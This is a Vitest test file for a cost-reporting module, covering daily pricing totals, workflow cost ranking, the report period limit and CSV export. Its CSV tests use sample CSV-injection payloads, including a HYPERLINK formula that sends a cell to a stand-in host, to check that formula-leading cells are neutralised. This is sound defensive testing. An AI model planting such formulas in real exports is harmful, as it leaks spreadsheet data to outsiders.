import { describe, expect, it } from 'vitest';
import { costReport, costReportCsv, MAX_REPORT_DAYS } from '#lib/pricing/cost-report.ts';
import { loadPriceSheet } from '#lib/pricing/price-sheet.ts';

const sheet = loadPriceSheet();
const TRANSITION = sheet.units.stateTransitions.usd_per_unit;
const REQUEST = sheet.units.apiRequests.usd_per_unit;

describe('the cost report', () => {
  const report = costReport({
    from: '2026-10-30',
    to: '2026-11-02',
    sheet,
    usage: [
      { subject: 'project#a', day: '2026-10-31', units: { stateTransitions: 100, apiRequests: 10 } },
      { subject: 'project#a', day: '2026-10-31', units: { stateTransitions: 20 } },
      { subject: 'link#lnk_b', day: '2026-11-02', units: { apiRequests: 1000 } },
    ],
    executionCosts: [
      { project: 'a', workflow_id: 'cheap', units: { stateTransitions: 4 } },
      ...Array.from({ length: 20 }, (_, i) => ({ project: 'a', workflow_id: 'dear', units: { stateTransitions: 10 + i } })),
    ],
  });

  it('has every day of the period, days without usage at zero, each priced by service', () => {
    expect(report.days.map((day) => day.day)).toEqual(['2026-10-30', '2026-10-31', '2026-11-01', '2026-11-02']);
    expect(report.days[0]!.total_usd).toBe(0);
    expect(report.days[1]!.usd_by_service['Step Functions']).toBeCloseTo(120 * TRANSITION, 10);
    expect(report.days[1]!.usd_by_service['API Gateway']).toBeCloseTo(10 * REQUEST, 10);
    expect(report.days[3]!.total_usd).toBeCloseTo(1000 * REQUEST, 10);
  });

  it('adds the days up to the period total', () => {
    expect(report.days.reduce((sum, day) => sum + day.total_usd, 0)).toBeCloseTo(report.total_usd, 8);
  });

  it('ranks workflows by mean run cost, with the nearest-rank p95', () => {
    expect(report.workflows.map((workflow) => [workflow.workflow_id, workflow.runs])).toEqual([
      ['dear', 20],
      ['cheap', 1],
    ]);
    expect(report.workflows[0]!.mean_usd).toBeCloseTo(19.5 * TRANSITION, 10);
    // 20 runs: the 19th cheapest (ceil(0.95 × 20)) spent 28 transitions.
    expect(report.workflows[0]!.p95_usd).toBeCloseTo(28 * TRANSITION, 10);
    expect(report.workflows[1]!.p95_usd).toBeCloseTo(4 * TRANSITION, 10);
  });
});

describe('the period of a report', () => {
  const report = (from: string, to: string) => costReport({ from, to, sheet, usage: [], executionCosts: [] });

  it('covers as many days as usage items are kept, 400, and no more', () => {
    expect(MAX_REPORT_DAYS).toBe(400);
    expect(report('2025-01-01', '2026-02-04').days).toHaveLength(400);
    expect(() => report('2025-01-01', '2026-02-05')).toThrow(
      new RangeError('a report covers 1 to 400 days; 2025-01-01 to 2026-02-05 is 401'),
    );
    expect(() => report('0001-01-01', '9999-12-31')).toThrow(RangeError);
    expect(() => report('2026-01-02', '2026-01-01')).toThrow(RangeError);
  });
});

/** RFC 4180 fields of a CSV: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') endField();
    else if (char === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += char;
  }
  return rows;
}

/** What a spreadsheet would read as the start of a formula (OWASP's CSV injection list). */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

describe('the cost report CSV opened in a spreadsheet', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '\ry'];
  const report = costReport({
    from: '2026-11-01',
    to: '2026-11-01',
    sheet,
    usage: [
      {
        subject: 'project#a',
        day: '2026-11-01',
        units: { inputTokens: 5 },
        models: Object.fromEntries(hostile.map((id) => [id, { input_tokens: 5 }])),
      },
    ],
    executionCosts: [],
  });
  const rows = parseCsv(costReportCsv(report));

  it('starts no cell with a formula character: every such cell, whatever its source, is prefixed with a quote', () => {
    const cells = rows.flat();
    for (const cell of cells) expect(FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('keeps the ids readable after the quote: the unpriced models row names each, the first neutralised', () => {
    expect(report.unpriced_models[0]).toMatch(FORMULA_START);
    const unpriced = rows.find((row) => row[0] === 'unpriced models')!;
    expect(unpriced[2]).toBe(`'${report.unpriced_models.join(' ')}`);
  });

  it('leaves plain numbers, negative ones included, as numbers', () => {
    const withNegative = costReport({
      from: '2026-11-01',
      to: '2026-11-01',
      sheet,
      usage: [{ subject: 'project#a', day: '2026-11-01', units: { apiRequests: -3 } }],
      executionCosts: [],
    });
    const apiGateway = parseCsv(costReportCsv(withNegative)).find((row) => row[0] === 'API Gateway')!;
    expect(apiGateway[1]).toBe('-3');
    expect(apiGateway[2]).toMatch(PLAIN_NUMBER);
  });
});
